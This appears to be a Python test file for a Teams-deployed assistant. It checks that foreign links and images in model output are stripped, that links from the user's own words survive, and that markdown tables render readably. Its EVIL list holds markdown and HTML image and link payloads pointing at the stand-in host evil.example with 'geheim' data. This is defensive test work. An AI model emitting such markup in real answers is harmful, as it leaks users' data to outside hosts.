"""What of a model's text may be shown: no foreign links, no images, and readable in Teams."""

from __future__ import annotations

import pytest

from tests.fakes.model import answer, obeys
from tests.scenarios.conftest import House

EVIL = [
    "![Bild](https://evil.example/p?q=geheim)",
    "[Hier](https://evil.example/x)",
    "[Hier][1]\n\n[1]: https://evil.example/x",
    "<https://evil.example/x>",
    '<img src="https://evil.example/p.png">',
    '<a href="https://evil.example">Hier</a>',
    "https://evil.example/geheim",
    "Siehe www.evil.example/geheim",
]


@pytest.mark.parametrize("text", EVIL)
@pytest.mark.parametrize("chunks", [1, 7, 30])
async def test_no_foreign_link_or_image_leaves_the_house(
    house: House, text: str, chunks: int
) -> None:
    house.model.then(answer(f"Vorher. {text} Nachher.", chunks=chunks, delay_s=0.01))
    await house.ask("Was gilt?")
    left = str([(s.text, s.body.get("attachments")) for s in house.teams.requests])
    assert "evil.example/" not in left
    assert "![" not in left
    assert "Nachher" in house.last().text


async def test_links_of_the_persons_own_words_stay(house: House) -> None:
    house.model.always(obeys)
    shown = await house.ask("Erkläre https://www.lindenfeld.example/satzung bitte.")
    assert "https://www.lindenfeld.example/satzung" in shown.text


async def test_tables_and_headings_arrive_readable(house: House) -> None:
    house.model.answer(
        "# Gebühren\n\n| Art | Betrag |\n| --- | --- |\n| Ausweis | 37 € |\n", chunks=9
    )
    shown = await house.ask("Was kostet das?")
    assert "|" not in shown.text
    assert "#" not in shown.text
    assert "37 €" in shown.text
    assert house.breaches == []


async def test_the_memory_is_condensed_beside_the_conversation(house: House) -> None:
    house.model.answer("Wort " * 4000)
    await house.ask("Erzähle viel.")
    house.model.then(answer("Zusammenfassung.", first_delay_s=1.0)).answer("Kurz.")
    await house.ask("Erzähle noch mehr. " + "Wort " * 3000)
    assert house.last().text
